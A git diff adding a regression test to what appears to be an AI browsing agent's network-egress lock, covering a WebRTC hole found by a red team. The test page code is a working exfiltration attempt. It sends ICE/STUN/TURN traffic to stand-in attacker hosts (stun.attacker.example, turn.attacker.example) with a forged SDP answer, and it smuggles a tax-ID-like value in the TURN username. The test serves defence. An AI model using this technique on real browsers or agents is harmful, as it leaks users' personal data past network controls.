@@ -1,3 +1,4 @@
+import { createSocket, type Socket as UdpSocket } from 'node:dgram';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { launchChromium } from '../../src/agent/browser/chromium';
@@ -24,6 +25,12 @@ import { bindLabProfile, PORTAL_HOSTS, startLab, type Lab } from '../../src/lab'
  * through a proxy of its own, in Chromium's network stack below any document, that lets only the
  * portal's addresses through. Each test also checks the lock's report, which proves the request
  * was made (and stopped), so a test cannot pass because the page never tried.
+ *
+ * HOLE 3, WebRTC (found while closing the first two): WebRTC sends UDP past
+ * any proxy. A page that sets a hard-coded answer (no signalling server needed) makes Chromium send
+ * ICE connectivity checks to any address and port; STUN and TURN servers are reached the same way.
+ * Closed by the launch flag `--webrtc-ip-handling-policy=disable_non_proxied_udp` (CHROMIUM_FLAGS):
+ * WebRTC then uses only TCP through the proxy, where the egress lock refuses it.
  */
 
 let lab: Lab;
@@ -218,6 +225,44 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
       expect(offPortal()).toEqual([]);
     } finally {
       await close();
+    }
+  }, 120_000);
+
+  it('HOLE 3 closed: WebRTC sends no UDP to an address a page hard-codes, and its TURN over TCP meets the egress lock', async () => {
+    const udp: UdpSocket = createSocket('udp4');
+    const datagrams: string[] = [];
+    udp.on('message', (message, from) => datagrams.push(`${from.address}:${from.port} ${message.length} bytes`));
+    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+    const { page, events, close } = await guardedPortalPage();
+    try {
+      const port = udp.address().port;
+      const answer = await page.evaluate(async (p) => {
+        const pc = new RTCPeerConnection({
+          iceServers: [
+            { urls: [`stun:127.0.0.1:${p}`, `stun:stun.attacker.example:${p}`] },
+            { urls: [`turn:127.0.0.1:${p}?transport=udp`, `turn:turn.attacker.example:${p}?transport=tcp`], username: 'owner_pan=AMNPR6621D', credential: 'x' },
+          ],
+        });
+        pc.createDataChannel('exfil');
+        const offer = await pc.createOffer();
+        await pc.setLocalDescription(offer);
+        // The attacker's "answer", written into the page: its own ICE credentials and a candidate at the UDP listener.
+        const sdp = offer.sdp!.replace('a=setup:actpass', 'a=setup:active').replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:EVIL').replace(/a=ice-pwd:.*/, 'a=ice-pwd:evilevilevilevilevilevil') + `a=candidate:1 1 udp 2122260223 127.0.0.1 ${p} typ host\r\n`;
+        await pc.setRemoteDescription({ type: 'answer', sdp });
+        await new Promise((r) => setTimeout(r, 3000));
+        const state = pc.iceConnectionState;
+        pc.close();
+        return state;
+      }, port);
+      // The page did all it could (the TURN server over TCP was asked for, and refused by the egress lock)...
+      await expect.poll(() => egressStops(events), { timeout: 15_000 }).toContain(`turn.attacker.example:${port}`);
+      expect(answer).not.toBe('connected');
+      // ...and not one datagram reached the listener: no connectivity check, no STUN, no TURN over UDP.
+      expect(datagrams).toEqual([]);
+      expect(offPortal()).toEqual([]);
+    } finally {
+      await close();
+      udp.close();
     }
   }, 120_000);
 });
